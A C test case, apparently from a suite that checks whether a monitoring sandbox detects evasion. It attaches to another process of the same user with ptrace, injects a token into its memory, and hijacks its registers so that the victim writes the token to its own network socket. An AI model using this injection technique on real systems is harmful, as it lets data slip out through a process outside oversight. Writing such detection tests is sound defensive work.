/* id: c09_ptrace_victim
 * title: ptrace an ungoverned process of the same user and make it write to its connection
 * needs: user
 * expect: detect
 * why: the write is done by the other process on its own socket; ptrace is the sign
 */
#include "../lib/bp.h"
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/user.h>
int main(){ bp_init(); char p[200]; snprintf(p,200,"%s/victim",getenv("BP_RUN")); FILE*f=fopen(p,"r"); int pid=0,fd=-1; if(!f||fscanf(f,"{\"pid\": %d, \"fd\": %d}",&pid,&fd)!=2||fd<0){puts("no victim");return 2;}
 if(ptrace(PTRACE_ATTACH,pid,0,0)){perror("attach");return bp_finish();} waitpid(pid,0,0); struct user_regs_struct r,s; ptrace(PTRACE_GETREGS,pid,0,&r); s=r; unsigned long at=(r.rsp-4096)&~7UL; char m[32]="";strcpy(m,tok);strcat(m,"\n");
 for(int i=0;i<32;i+=8) ptrace(PTRACE_POKEDATA,pid,(void*)(at+i),(void*)*(long*)(m+i)); s.orig_rax=-1; s.rax=1; s.rdi=fd; s.rsi=at; s.rdx=strlen(m); s.rip=r.rip-2; ptrace(PTRACE_SETREGS,pid,0,&s); ptrace(PTRACE_SINGLESTEP,pid,0,0); waitpid(pid,0,0); ptrace(PTRACE_GETREGS,pid,0,&s); fprintf(stderr,"write=%lld\n",(long long)s.rax);
 r.rip-=2; if(r.orig_rax!=(unsigned long)-1) r.rax=r.orig_rax; ptrace(PTRACE_SETREGS,pid,0,&r); ptrace(PTRACE_DETACH,pid,0,0); usleep(200000); return bp_finish(); }
